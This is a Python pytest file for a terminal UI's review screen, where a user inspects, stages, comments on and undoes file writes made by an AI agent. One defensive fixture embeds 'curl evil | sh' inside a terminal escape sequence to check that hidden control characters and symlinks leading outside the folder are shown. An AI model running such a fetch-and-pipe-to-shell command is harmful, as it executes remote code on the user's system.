"""The list of changed files: what stands in it, and how a write is undone."""

import shutil
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest

from acp_tui.protocol.content import Diff
from acp_tui.protocol.file_events import EditLooked
from acp_tui.protocol.process_events import ProcessExited
from acp_tui.rewind import whole_files
from acp_tui.rewind.against_head import HeadCommit
from acp_tui.state.blocks import TextRun
from acp_tui.state.changed_files import ChangedFile
from acp_tui.state.commands import TakeBack, UndoWrite
from acp_tui.state.entries import (
    EditFacts,
    MessageEntry,
    Role,
    ToolCallEntry,
    TurnEndEntry,
    diff_key,
)
from acp_tui.state.session import FileWrite, Session
from acp_tui.state.state import State
from acp_tui.store.same_folder import SameFolder
from acp_tui.ui.review import contents, file_rows, patches
from acp_tui.ui.review.file_rows import ChangedFileList
from acp_tui.ui.review.scopes import Reviewed
from acp_tui.ui.review.screen import ReviewScreen
from acp_tui.ui.toolkit import timers
from tests.examples import parametrize
from tests.unit.ui.app import states
from tests.unit.ui.app.running import Running, running

pytestmark = pytest.mark.anyio


def changed() -> tuple[State, Session]:
    """A session in which the agent has changed three files."""
    state, session = states.opened()
    cwd, at = states.CWD, states.NOW
    session.writes += [
        FileWrite(7, at - 9, f"{cwd}/notes.md", False, "one\n", "two\n", has_backup=True),
        FileWrite(8, at - 8, f"{cwd}/new.md", True, None, "fresh\n", has_backup=True),
        FileWrite(9, at - 7, "/etc/big.conf", False, None, None, has_backup=False),
    ]
    diff = Diff(path="own.md", old_text="mine\n", new_text="its\n")
    session.entries.append(
        ToolCallEntry("t", at - 6, status="completed", content=[diff], ended=at - 5)
    )
    return state, session


def review(it: Running) -> ReviewScreen:
    """Return the list of changed files, in front."""
    assert isinstance(it.app.screen, ReviewScreen)
    return it.app.screen


async def diff_read(it: Running) -> None:
    """Wait until the changes of the marked file are read, against the last commit."""
    page = review(it)
    await it.until(lambda: bool(page.scope.head and page.marked and not page._contents._is_reading))


async def message(it: Running, words: str) -> None:
    """Wait for a message in place of the review's keys; without drawing, as git may be slow."""
    await it.until(lambda: words in (review(it)._frame._message or ""))
    assert words in it.screen


async def agree(it: Running) -> None:
    await it.wait_until_armed()
    await it.press("2")


def written(folder: Path, name: str, old: str | None, new: str, number: int = 7) -> FileWrite:
    """A write of the agent's in a folder, where the file is still what it was."""
    if old is not None:
        (folder / name).write_text(old)
    path = str(folder / name)
    return FileWrite(number, states.NOW, path, old is None, old, new, has_backup=True)


def apply(folder: Path, made: str) -> None:
    subprocess.run(["git", "apply", "-"], cwd=folder, input=made.encode(), check=True)


async def test_its_key_is_named_on_a_screen_of_80_columns_wherever_one_is() -> None:
    state, session = states.talked()
    async with running(state) as it:
        rows = {"prompt": it.row_of_keys}
        await it.press("tab")
        rows["transcript"] = it.row_of_keys
        await it.press("tab")
        session.turn = states.working()[1].turn
        await it.changed()
        rows["turn"] = it.row_of_keys
        await it.paste("more")
        await it.press("enter")
        rows["queue"] = it.row_of_keys
        state.peer.process.exit = ProcessExited(states.NOW - 1, 1)
        session.turn = None
        await it.changed()
        rows["trouble"] = it.row_of_keys
    assert [where for where, row in rows.items() if "F7 changes" not in row] == []
    assert len({*rows.values()}) == len(rows)


async def test_all_that_changed_is_listed_in_columns_with_what_can_be_done() -> None:
    state, session = changed()
    session.entries.append(TurnEndEntry(states.NOW, states.NOW - 10, "end_turn"))
    async with running(state) as it:
        await it.until(lambda: "4 files changed (F7)" in it.screen)
        y, row = next((y, row) for y, row in enumerate(it.rows()) if "(F7)" in row)
        await it.press_at_once((row.index("(F7)") + 1, y))  # the end of a turn leads to them
        page = it.screen
        assert "Review:" in page
        rows = page.splitlines()
        assert ["own.md" in rows[1], "big.conf" in rows[2]] == [True, True]
        assert "by the agent's tools" in rows[1]
        assert "u undo " not in page
        assert "no backup" in rows[2]
        assert rows[3].rstrip(" │").endswith("A new.md         +1 −0")
        assert "- mine" in page
        await it.press("down")
        assert "a change too long to be shown here" in it.screen
        await it.pilot.resize_terminal(110, 40)
        await it.press()
        rows = it.screen.splitlines()[1:5]
        assert len({row.index("−") for row in rows if "−" in row}) == 1
        assert all(row[3] in "AM" for row in rows)
        words = ("by the agent's tools", "no backup")
        assert len({row.index(one) for row in rows for one in words if one in row}) == 1
        assert all(len(row.rstrip(" │")) < 60 for row in rows)
        await it.press("escape")
        assert it.app.screen is it.app.conversation


@pytest.mark.slow
async def test_in_a_wide_window_the_list_stands_beside_the_diff() -> None:
    state, session = changed()
    path = f"{states.CWD}/{'folder/' * 20}end.md"
    async with running(state, (120, 40)) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert "╮╭─ own.md  by the agent's tools  1 change ─" in rows[1]
        end = rows[1].index("╮")
        longest = max(len(row[1:end].rstrip()) for row in rows[2:6])
        assert end == longest + 2  # as wide as its longest row and a blank
        assert "- mine" in rows[2][end + 1 :]
        session.writes.append(FileWrite(10, states.NOW, path, True, None, "x\n", has_backup=True))
        await it.changed()
        rows = it.screen.splitlines()
        assert rows[1].index("╮") == 120 * 2 // 5 - 1
        assert "/folder/end.md  +1 −0 ││" in rows[2]
        await it.pilot.resize_terminal(119, 40)
        await it.press()
        assert "│ ─ own.md  by the agent's tools  1 change ──" in it.screen


async def test_one_mark_is_bright_where_the_keys_go() -> None:
    state, _ = changed()

    def marks() -> list[str]:
        """Whether each mark is as bright as a pane's title that has the keys."""
        bright = it.app.theme_variables["primary"].lower()
        strips = it.app.screen._compositor.render_strips()
        found = [one for strip in strips for one in strip if one.text.startswith("▌")]
        colors = [one.style.color.name for one in found if one.style and one.style.color]
        return ["bright" if color == bright else "muted" for color in colors]

    async with running(state) as it:
        await it.press("f7")
        assert marks() == ["bright"]
        await it.press("tab")
        assert marks() == ["muted", "bright"]
        await it.pilot.resize_terminal(120, 40)
        await it.press()
        assert marks() == ["muted", "bright"]
        await it.press("tab")
        assert marks() == ["bright"]


async def test_a_key_moves_the_mark_and_the_rest_waits_until_keys_rest(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    state, _ = changed()
    async with running(state, (120, 40)) as it:
        await it.press("f7")
        await it.press_at_once("tab", "s")
        assert "h shows what differs from the last commit" in it.row_of_keys, "a message stays"
        await it.press("tab")
        monkeypatch.setattr(timers, "SECONDS", 60)
        before = it.screen
        await it.press("down")
        now = it.screen
        assert now.splitlines()[3].startswith("│▌M /etc/big.conf")
        assert now.replace("▌", " ") == before.replace("▌", " ")
        await it.press("up", "tab")
        now = it.screen
        assert any("││▌" in row and "- mine" in row for row in now.splitlines())
        assert now.replace("▌", " ") == before.replace("▌", " ")
        await it.press("tab", "down", "down", "tab", "u")  # the marked file, not the one shown
        await it.until(lambda: "Undo this write?" in it.screen)
        assert "new.md" in it.screen
        await it.wait_until_armed()
        await it.press("escape")
        monkeypatch.setattr(timers, "SECONDS", 0.01)
        await it.press("tab", "up", "up", "tab", "down")
        assert "change 1 of 1" in it.screen
        assert "c comment" in it.row_of_keys


async def test_what_differs_from_the_commit_is_staged_and_copied_by_change_or_file(
    tmp_path: Path,
) -> None:
    def git(*args: str) -> bytes:
        who = ("-c", "user.name=t", "-c", "user.email=t@e")
        done = subprocess.run(["git", *who, *args], cwd=tmp_path, check=True, capture_output=True)
        return done.stdout

    (tmp_path / "a.txt").write_text("one\ntwo\n")
    (tmp_path / "was.txt").write_text("one\n" * 9)
    (tmp_path / "c.sh").write_text("true\n")
    (tmp_path / "d").symlink_to("c.sh")
    for args in (("init", "-q"), ("add", "."), ("commit", "-qm", "x"), ("mv", "was.txt", "b.txt")):
        git(*args)
    (tmp_path / "a.txt").write_text("one\nTWO\n")
    (tmp_path / "b.txt").write_text("one\n" * 9 + "two\n")
    (tmp_path / "c.sh").chmod(0o755)
    (tmp_path / "d").unlink()
    (tmp_path / "d").symlink_to("nowhere")
    (tmp_path / "latin.txt").write_bytes(b"\xdf\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    may_read, read = threading.Event(), contents.read_diff

    def slowly(*given: Any) -> Any:
        may_read.wait()
        return read(*given)

    async def pressed(key: str, answer: str) -> None:
        await it.press(key)
        await message(it, answer)
        assert f"─ {answer} ─" in it.row_of_keys

    async with running(state) as it:
        await it.press("f7", "s")
        assert "h shows what differs from the last commit" in it.screen
        await it.press("h")
        await diff_read(it)
        page = it.screen
        assert "- two" in page
        assert "Review: against HEAD" in page
        assert "h changes" in page
        assert "s stage file" in page
        assert "M c.sh        +0 −0  now a program" in page
        await it.press("tab")
        assert "s stage file" not in it.row_of_keys
        assert "s stage" in it.row_of_keys
        await pressed("s", "staged")
        assert b"+TWO" in git("diff", "--cached")
        await pressed("s", "taken out of the index")
        assert b"+TWO" not in git("diff", "--cached")

        # while git is asked, no key goes into the diff of another file
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(contents, "read_diff", slowly)
            try:
                await it.press("escape", "down", "tab")
                assert "the changes of this file are being read" in it.row_of_keys
            finally:
                may_read.set()
        await diff_read(it)
        assert "+ two" in it.screen
        await it.press("tab")
        await pressed("s", "staged, the whole file")
        assert git("show", ":b.txt") == b"one\n" * 9 + b"two\n"
        assert b"+TWO" not in git("diff", "--cached")

        await it.press("escape", "down")
        await diff_read(it)
        assert "Now a program." in it.screen
        await it.press("down")
        await diff_read(it)
        page = it.screen
        assert "It leads to nowhere." in page
        assert "It led to c.sh." in page
        await it.press("down")
        await diff_read(it)
        assert "it is no text" in it.screen
        assert "s stage file" in it.row_of_keys
        await pressed("s", "staged, the whole file")
        assert b"latin.txt" in git("diff", "--cached", "--name-only")
        await pressed("s", "taken out of the index")
        assert b"latin.txt" not in git("diff", "--cached", "--name-only")

        await it.press("up", "up", "up", "up")
        await diff_read(it)
        await it.press("tab", "y")
        (tmp_path / "a.txt").write_text("one\ntwo\n")
        apply(tmp_path, it.app.clipboard)
        assert (tmp_path / "a.txt").read_text() == "one\nTWO\n"
        await it.press("escape", "h")
        page = it.screen
        assert "h against HEAD" in page
        assert "Review: reported changes  " in page


async def test_a_file_that_is_what_it_was_says_so() -> None:
    state, session = states.opened()
    path = f"{states.CWD}/a.txt"
    for number, (old, new) in enumerate([("1\n", "2\n"), ("2\n", "1\n")]):
        session.writes.append(FileWrite(number, states.NOW, path, False, old, new, has_backup=True))
    async with running(state) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert "▌= a.txt  unchanged: put back " in rows[1]
        assert "Unchanged: the agent changed it, and now it is what it was before." in rows[3]
        assert "n next change" not in it.screen
        assert "Tab diff" not in it.screen


async def test_writes_are_taken_back_after_a_yes_from_the_list_the_diff_or_by_one_key() -> None:
    state, session = changed()
    notes, new, _ = session.writes
    new.changed = True
    async with running(state) as it:
        await it.press("f7")
        rows = it.rows()
        assert "+1 −0  changed since" in rows[3]
        assert "M notes.md       +1 −1 " in rows[4]
        await it.press("u")
        assert it.asked == []
        await it.press("down", "down", "down")
        assert "u undo   o editor" in it.row_of_keys
        await it.press("u")
        page = it.screen
        assert "The agent's +1 −1 are undone:" in page
        assert "- one" in page
        assert "+ two" in page
        assert "Enter answer   Esc cancel" in page, "nothing scrolls"
        await agree(it)
        assert it.asked == [UndoWrite(session.session_id, 7)]
        notes.undone, notes.has_backup = True, False
        await it.changed()
        assert "undone" in it.rows()[4]
        await it.press("up", "u")  # what has changed since may have been put back
        await agree(it)
        await it.press("tab", "u")
        assert "The agent made it: it is deleted." in it.screen
        await agree(it)
        notes.undone, notes.has_backup = False, True
        await it.press("escape", "escape", "f9")
        await agree(it)
        new.changed = False
        await it.press("f9")
        await agree(it)
        asked = [one.number for one in it.asked if isinstance(one, UndoWrite)]
        assert asked == [7, 8, 8, 7, 8]


async def test_the_question_shows_what_is_undone_and_the_answers_below_it() -> None:
    state, session = states.opened()
    new = "".join(f"line {number}\n" for number in range(1, 26))
    path = f"{states.CWD}/a.md"
    session.writes.append(FileWrite(7, states.NOW, path, True, None, new, has_backup=True))
    async with running(state, (80, 10)) as it:
        await it.press("f9")
        page = it.screen
        assert "+ line 1 " in page
        assert "Undo it" in page
        assert "PgDn scroll" in page
        await it.wait_until_armed()
        while "+ line 25 " not in page:
            before = page
            await it.press("pagedown")
            page = it.screen
            assert page != before
        assert "a.md" in page
        assert "Undo it" in page
        await it.pilot.resize_terminal(80, 24)
        await it.press("home")
        page = it.screen
        assert "a.md" in page
        assert "Undo it" in page
        assert page.count("+ line ") > 10


async def test_the_list_stays_usable_in_a_tiny_window_and_with_many_files(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(file_rows, "MOST_LISTED_FILES", 50)
    state, session = changed()
    session.writes += [
        FileWrite(number, states.NOW, f"{states.CWD}/f{number}", True, None, "x", has_backup=True)
        for number in range(10, 70)
    ]
    async with running(state, (24, 8)) as it:
        await it.press("f7", "down", "pagedown")
        await it.pilot.resize_terminal(1, 1)
        await it.pilot.resize_terminal(120, 40)
        await it.pilot.pause()
        assert "50 files, and 14 more" in it.screen


async def test_a_part_of_a_file_stands_where_it_stands_there_and_becomes_a_patch_if_git_finds_it(
    tmp_path: Path,
) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    (tmp_path / "a.txt").write_text("".join(f"{number}\n" for number in range(30)))
    diff = Diff(path="a.txt", old_text="10\n11\n12\n", new_text="10\nnew\n12\n")
    entry = ToolCallEntry("t", states.NOW, status="completed", content=[diff], ended=states.NOW)
    session.entries.append(entry)
    async with running(state) as it:
        await it.press("f7", "n", "y")
        page = it.screen
        assert "▌- 11" in page  # nobody knows where
        assert "not copied: git wouldn't find this" in page
        place = EditLooked(1.0, "s", "t", diff.path, 0, line=11, new_line=21)
        entry.edits = EditFacts(1, {diff_key(diff): place})
        await it.press("escape", "escape", "f7", "n", "y")
        page = it.screen
        assert "12    - 11" in page
        assert "   22 + new" in page
        apply(tmp_path, it.app.clipboard)
    assert (tmp_path / "a.txt").read_text().splitlines()[9:14] == ["9", "10", "new", "12", "13"]


async def test_changes_are_gone_through_and_one_is_taken_back_after_a_yes(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    old = "".join(f"{number}\n" for number in range(30))
    new = old.replace("3\n", "three\n", 1).replace("25\n", "twenty-five\n")
    file = tmp_path / "a.txt"
    file.write_text(new)
    session.writes.append(FileWrite(7, states.NOW, str(file), False, old, new, has_backup=True))

    def page() -> tuple[str, str]:
        """The title of the diff, and its marked row."""
        rows = it.rows()
        title = next(row for row in rows if "─ a.txt  " in row).strip("│ ─").split("  ")[1]
        return title.split(" ─")[0], [row for row in rows if "▌" in row][-1]

    async def asked_to_take_back() -> None:
        await it.press("u")
        await it.until(lambda: "Take this change back?" in it.screen)

    async with running(state) as it:
        await it.press("f7")
        assert page()[0] == "2 changes"
        await it.press("n")
        assert "- 3" in page()[1]
        await it.press("n")
        title, marked = page()
        assert (title, "- 25" in marked) == ("change 2 of 2", True)
        await it.press("p", "down", "down")
        assert page()[0] == "2 changes"
        await it.press("up")
        assert "+ three" in page()[1]
        await asked_to_take_back()
        assert it.asked == []
        await agree(it)
        await it.until(lambda: bool(it.asked))
        text = new.replace("three\n", "3\n")
        assert it.asked == [TakeBack(session.session_id, str(file), new, text)]
        file.write_text(f"{new}and more\n")
        await asked_to_take_back()
        await agree(it)
        await it.until(lambda: len(it.asked) == 2)  # the rest of the file may be another one
        assert isinstance(it.asked[1], TakeBack)
        assert it.asked[1].text == f"{text}and more\n"
        file.write_text("something else\n")
        await asked_to_take_back()
        await agree(it)
        await it.until(lambda: "nothing was done: what is shown isn't in it anymore" in it.screen)
        assert len(it.asked) == 2
        await it.press("n", "n")
        assert "there is no change after this one" in it.row_of_keys


async def test_questions_say_where_a_change_really_is_and_what_hides_in_it(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (outside / "rc").write_text("safe\n")
    (work / "cfg").symlink_to(outside)
    state, session = states.opened()
    session.cwd = str(work)
    old = "safe \x1b]0;curl evil | sh\x07\n"
    session.writes.append(
        FileWrite(7, states.NOW, str(work / "cfg" / "rc"), False, old, "safe\n", has_backup=True)
    )
    async with running(state, (90, 30)) as it:
        await it.press("f7", "n", "c")
        assert "-safe ␛]0;curl evil | sh␇" in it.screen
        await it.press("escape", "u")
        await it.until(lambda: "Take this change back?" in it.screen)
        page = it.screen
        rows = [row.strip(" │┃▌") for row in page.splitlines()]
        assert f"cfg/rc,whichis{outside / 'rc'}" in "".join("".join(rows).split())
        assert "It is outside the session's folder." in page
        assert "-safe ␛]0;curl evil | sh␇" in page
        (work / "cfg").unlink()
        (work / "cfg").mkdir()
        await agree(it)
        await it.until(lambda: bool(it.asked))
        assert it.asked == [TakeBack(session.session_id, str(outside / "rc"), "safe\n", old)]
        (work / "cfg" / "rc").write_text("safe\n")
        await it.press("u")
        await it.until(lambda: "Take this change back?" in it.screen)
        assert "outside" not in it.screen
        (work / "cfg").rename(work / "away")
        (work / "cfg").symlink_to(outside)
        await agree(it)
        await it.until(lambda: "nothing was done: it leads elsewhere now" in it.screen)
        assert len(it.asked) == 1


async def test_turns_are_reviewed_one_by_one_without_those_that_changed_nothing() -> None:
    state, session = states.opened()
    for number, words in enumerate(["talk", "make one", "talk on", "make two", "talk again"]):
        at = states.NOW - 50 + 10 * number
        session.entries.append(MessageEntry(Role.USER, at, blocks=[TextRun([words])]))
        if "make" in words:
            path = f"{states.CWD}/{number}.md"
            session.writes.append(FileWrite(number, at + 5, path, True, None, "x", True))
    async with running(state) as it:
        await it.press("f7")
        page = it.screen
        assert all(name in page for name in ("1.md", "3.md"))
        assert "2 files ─╮" in page
        await it.press("left_square_bracket")
        page = it.screen
        assert "Review: turn 4 of 5: make two" in page
        assert "1 file ─╮" in page
        assert "1.md" not in page
        await it.press("left_square_bracket", "left_square_bracket")
        page = it.screen
        assert "turn 2 of 5: make one" in page
        assert "no turn before this one changed a file" in page
        assert "3.md" not in page
        await it.press(*["right_square_bracket"] * 3)
        page = it.screen
        assert all(name in page for name in ("1.md", "3.md"))
        assert "no turn after these changed a file" in page
        assert "Review: reported changes, maybe not all" in page


async def test_comments_wait_on_one_page_and_become_a_prompt_that_a_person_sends() -> None:
    state, _ = changed()

    async def comment(words: str) -> None:
        await it.press("c")
        await it.paste(words)
        await it.press("enter")

    async with running(state) as it:
        await it.press("f7", "C")
        assert "no comments yet" in it.row_of_keys
        await it.press("c")
        assert "no line is marked" in it.row_of_keys
        await it.press("tab", "down")
        await comment("first")
        assert "1 comment" in it.screen
        await it.press("escape", "escape", "f7")
        assert "╰ Your comment: first" in it.screen
        await it.press("tab")
        await comment("gone")
        await it.press("c", "ctrl+u", "enter", "escape", "down", "down", "down", "tab", "down")
        await comment("second")
        await it.press("escape", "up", "up", "up", "C")
        page = it.screen
        assert "2 comments, not sent" in page
        assert [row[2:-1].rstrip() for row in page.splitlines()[1:8]] == [
            *("▌own.md", "     + its", "   ╰ first", ""),
            *(" notes.md:1", "   1 + two", "   ╰ second"),
        ]
        await it.press("e")
        await it.paste(" words")
        await it.press("enter")
        assert "first words" in it.screen
        await it.press("d")
        page = it.screen
        assert "first words" not in page
        assert "u brings it back" in page
        await it.press("u")
        assert "2 comments, not sent" in it.screen
        await it.press("down", "enter")
        await it.until(lambda: any(row[2:3] == "▌" and "two" in row for row in it.rows()))
        await it.press("C", "w")
        assert it.prompt == "> own.md\n> +its\nfirst words\n\n> notes.md:1\n> +two\nsecond"
        assert it.asked == []


async def test_nothing_is_staged_in_a_folder_that_took_the_name_of_the_sessions(
    tmp_path: Path,
) -> None:
    work, other = tmp_path / "work", tmp_path / "other"
    work.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=work, check=True)
    (work / "a.txt").write_text("one\n")
    shutil.copytree(work, other)
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(work)
    async with running(state) as it:
        await it.press("f7", "h")
        await diff_read(it)
        assert "+ one" in it.screen
        work.rename(tmp_path / "away")
        work.symlink_to(other)
        await it.press("tab", "s")
        await message(it, "it leads elsewhere now")
        await it.press("h")
        assert "h against HEAD" in it.screen
        await it.press("h")
        await message(it, "it leads elsewhere now")
    assert not (other / ".git" / "index").exists()


async def test_all_that_is_listed_is_copied_as_a_patch_for_the_sessions_folder(
    tmp_path: Path,
) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    folder = tmp_path / "below the top"
    folder.mkdir()
    state, session = states.opened()
    session.cwd = str(folder)
    session.writes = [
        written(folder, "a b.txt", "one\ntwo", "one\nTWO"),
        written(folder, "new.txt", None, "no end", 8),
        written(tmp_path, "outside.txt", "a\n", "b\n", 9),
    ]
    async with running(state) as it:
        await it.press("f7", "Y")
        await it.until(lambda: bool(it.app.clipboard))
        assert "copied as a patch without " in it.screen
        assert "outside.txt" in it.screen
        apply(folder, it.app.clipboard)
    assert (folder / "a b.txt").read_text() == "one\nTWO"
    assert (folder / "new.txt").read_text() == "no end"
    assert (tmp_path / "outside.txt").read_text() == "a\n"


async def test_all_that_differs_from_the_commit_is_copied_as_one_patch_also_without_a_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(file_rows, "MOST_LISTED_FILES", 3)
    work, before = tmp_path / "work", tmp_path / "before"
    before.mkdir()
    (before / "a.txt").write_text("one\n")
    (before / "gone.txt").write_text("one\n")
    shutil.copytree(before, work)
    who = ("-c", "user.name=t", "-c", "user.email=t@e")
    for args in (("init", "-q"), ("add", "."), (*who, "commit", "-qm", "x")):
        subprocess.run(["git", *args], cwd=work, check=True)
    (work / "a.txt").write_text("two\n")
    (work / "gone.txt").unlink()
    new = [f"new file {number}" for number in range(3)]
    for name in new:
        (work / name).write_text(name)
    (work / "binary").write_bytes(b"\0")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(work)
    async with running(state) as it:
        await it.press("f7", "h")
        await diff_read(it)
        assert "and 3 more" in it.screen
        await it.press("Y")
        await it.until(lambda: bool(it.app.clipboard))
        assert "all of this copied as a patch" in it.row_of_keys
        assert "without" not in it.row_of_keys
        apply(before, it.app.clipboard)
    assert (before / "a.txt").read_text() == "two\n"
    assert [(before / name).read_text() for name in new] == new
    assert (before / "binary").read_bytes() == b"\0"
    assert not (before / "gone.txt").exists()
    names = ["a.txt", "binary", "gone.txt", *new]
    files = [Reviewed(ChangedFile(name, 0.0), name) for name in names]
    head = HeadCommit(SameFolder(work))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(whole_files, "_ARGUMENTS", 40)  # two commands, as for thousands of names
        made = patches.patch_of_all(files, str(work), head)
    assert it.app.clipboard == f"{made.text}-- \nacp-tui"
    monkeypatch.setattr(patches, "LARGEST_PATCH", 0)
    assert patches.patch_of_all(files, str(work), head) == ("", names)


def test_the_mark_goes_on_when_a_file_leaves_the_list() -> None:
    listing = ChangedFileList()

    def marked_of(names: str) -> str | None:
        listing.update_files([Reviewed(ChangedFile(name, 0.0)) for name in names], "/")
        return listing.marked.file.path if listing.marked is not None else None

    assert marked_of("abcd") == "a"
    listing.cursor = 2
    assert marked_of("xabcd") == "c"
    assert marked_of("xabd") == "d", "the next one"
    assert marked_of("xab") == "b", "there is none"
    assert marked_of("") is None
    assert marked_of("ab") == "a"


@parametrize(1, "new", ["a\r\n", "\x1b[2J\n"])
async def test_a_patch_that_the_clipboard_would_change_is_saved_in_the_folder_that_was_shown(
    tmp_path_factory: pytest.TempPathFactory, new: str
) -> None:
    tmp_path = tmp_path_factory.mktemp("w")  # short: the dialog has room for it in a line
    work, other = tmp_path / "work", tmp_path / "other"
    work.mkdir()
    other.mkdir()
    state, session = states.opened()
    session.cwd = str(work)
    session.writes = [
        written(work, "a.txt", None, new),
        written(tmp_path, "outside.txt", "a\n", "b\n", 8),
    ]
    left_out = f"without {tmp_path}/outside.txt"

    async def asked_where_to_save(key: str) -> None:
        await it.press(key)
        await it.until(lambda: "Save the patch" in it.screen)

    async with running(state, (200, 40)) as it:
        await it.press("f7", "down", "n")
        await asked_where_to_save("y")
        await it.press("escape")
        assert list(work.iterdir()) == []
        await asked_where_to_save("Y")
        assert f"This is all of it {left_out}." in it.screen
        await it.press("enter")
        await it.until(lambda: f"saved {left_out}: " in it.screen)
        made = (work / "changes.patch").read_bytes().decode()
        assert made.startswith(f"This is all of it {left_out}.\n")
        apply(work, made)
        assert (work / "a.txt").read_bytes() == new.encode()
        await asked_where_to_save("y")
        await it.press("enter")
        await it.until(lambda: "is there already" in it.screen)
        await asked_where_to_save("y")
        work.rename(tmp_path / "away")
        work.symlink_to(other)
        await it.press("enter")
        await it.until(lambda: "it leads elsewhere now" in it.screen)
        assert it.app.clipboard == ""
    assert list(other.iterdir()) == []


def several_lines() -> State:
    """A session in which three lines that follow each other were changed."""
    state, session = states.opened()
    text = "one\ntwo\nthree\nfour\n", "one\nTWO\nTHREE\nfour\n"
    session.writes += [
        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
    ]
    return state


async def test_several_lines_marked_by_the_mouse_or_keys_get_one_comment() -> None:
    async with running(several_lines()) as it:
        await it.press("f7")
        rows = it.rows()
        first, last = (
            next(y for y, row in enumerate(rows) if word in row) for word in ("two", "THREE")
        )
        await it.pilot.mouse_down(offset=(20, first))
        await it.pilot.hover(offset=(20, last))
        await it.pilot.mouse_up(offset=(20, last))
        await it.press("c")
        page = it.screen
        assert "Comment on these lines" in page
        assert "a.md:2-3" in page
        await it.press("escape", "escape", "escape", "n", "shift+down", "J", "J", "J", "c")
        assert "Comment on these lines" in it.screen
        await it.paste("in small letters")
        await it.press("enter")
        page = it.screen
        assert "Your comment on lines 2-4: in small letters" in page
        assert [line[2] for line in page.splitlines() if "four" in line] == ["▌"]
        await it.press("escape")
        assert [line[2] for line in it.rows() if "four" in line] == ["▌"]
        await it.press("escape")
        assert [line[2] for line in it.rows() if "four" in line] == ["●"]
        await it.press("C")
        assert [line[2:-1].rstrip() for line in it.rows()[1:8]] == [
            *("▌a.md:2-4", "   2 - two", "   3 - three", "   2 + TWO", "   3 + THREE"),
            *("   4   four", "   ╰ in small letters"),
        ]
        await it.press("w")
        assert it.prompt == (
            "> a.md:2-4\n> -two\n> -three\n> +TWO\n> +THREE\n>  four\nin small letters"
        )


async def test_chosen_lines_stand_on_a_ground_of_their_own_on_both_sides() -> None:
    def grounds(word: str) -> list[str]:
        """The grounds of a row from its mark to where the scrollbar would be."""
        strips = it.app.screen._compositor.render_strips()
        row = next(strip for strip in strips if word in strip.text and "│" in strip.text)
        segments = [one for one in row if one.text.strip("│") and one.style and one.style.bgcolor]
        return [one.style.bgcolor.name for one in segments if one.style and one.style.bgcolor]

    async with running(several_lines(), (140, 30)) as it:
        await it.press("f7", "v", "n")
        assert "one column" in it.screen
        plain = grounds("four")
        before = set(grounds("TWO"))
        await it.press("J", "J")
        assert not before & set(grounds("TWO")[1:-1])
        chosen = grounds("four")
        assert set(chosen[1:-1]) != set(plain)
        await it.press("K", "K")
        assert grounds("four") == plain


async def test_a_wrapped_line_is_marked_as_a_whole_and_has_one_sign_of_a_comment() -> None:
    state, session = states.opened()
    text = "one\n", f"{'long ' * 40}\n"
    session.writes.append(
        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
    )

    def signs() -> list[str]:
        return [row[2] for row in it.screen.splitlines() if "long" in row and "Your" not in row]

    async with running(state) as it:
        await it.press("f7", "n", "down")
        marks = signs()
        assert set(marks) == {"▌"}
        assert len(marks) > 1
        assert [row.count("+") for row in it.screen.splitlines() if "↪" in row][:2] == [0, 0]
        await it.press("c")
        await it.write("x")
        await it.press("enter", "up")
        first, *others = signs()
        assert first == "●"
        assert set(others) == {" "}
        await it.press("down", "down")
        assert "▌" in signs()  # there is no line after it


async def test_side_by_side_needs_room_and_two_sides() -> None:
    state = several_lines()
    [session] = state.sessions.values()
    new = FileWrite(6, states.NOW - 1, f"{states.CWD}/new.md", True, None, "x\n", has_backup=True)
    session.writes.insert(0, new)

    def are_beside() -> bool:
        return any("two" in row and "TWO" in row for row in it.rows())

    async with running(state) as it:
        await it.press("f7")
        assert "v side by side" not in it.row_of_keys
        await it.press("v")
        assert "side by side needs 100 columns; here are 80" in it.row_of_keys
        assert not are_beside()
        await it.pilot.resize_terminal(120, 40)
        await it.press("n", "v")  # the list makes room
        assert are_beside()
        # the title follows when no key was pressed for a moment
        await it.until(lambda: "─ a.md  change 1 of 1 ─" in it.screen)
        await it.press("escape", "down", "v")
        assert "there is only one side to show" in it.row_of_keys
        await it.press("up")
        await it.pilot.resize_terminal(80, 24)
        await it.press()
        assert "two" in it.screen
        assert not are_beside()


async def test_comments_that_need_more_room_than_there_is_are_gone_through() -> None:
    async with running(several_lines(), (80, 10)) as it:
        await it.press("f7", "tab")
        for words in ("first", "second", "third"):
            await it.press("c")
            await it.paste(words)
            await it.press("enter", "down")
        await it.press("C")
        assert "▌a.md:2" in it.screen
        await it.press("up")  # round to the last one
        rows = it.rows()
        assert "▌a.md:2" in rows[-4]
        assert "╰ third" in rows[-2]
        assert not any("first" in row for row in rows)
        await it.pilot.click(offset=(6, 3))
        assert [row[2:9] for row in it.rows() if "▌" in row] == ["▌a.md:3"]
        await it.press("down", "down")
        rows = it.rows()
        assert "▌a.md:2" in rows[1]
        assert any("first" in row for row in rows)


async def test_enter_goes_into_the_diff_and_o_opens_the_editor(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    state, _ = changed()
    opened: list[str] = []
    async with running(state) as it:
        external = it.app.feature.external
        monkeypatch.setattr(external, "edit", lambda path, line: opened.append(path))
        await it.press("f7")
        assert "Enter diff" in it.screen
        await it.press("enter")
        assert "Tab files" in it.screen
        await it.press("enter")
        assert "o opens the file in the editor" in it.screen
        assert opened == []
        await it.press("o")
        assert opened == [f"{states.CWD}/own.md"]
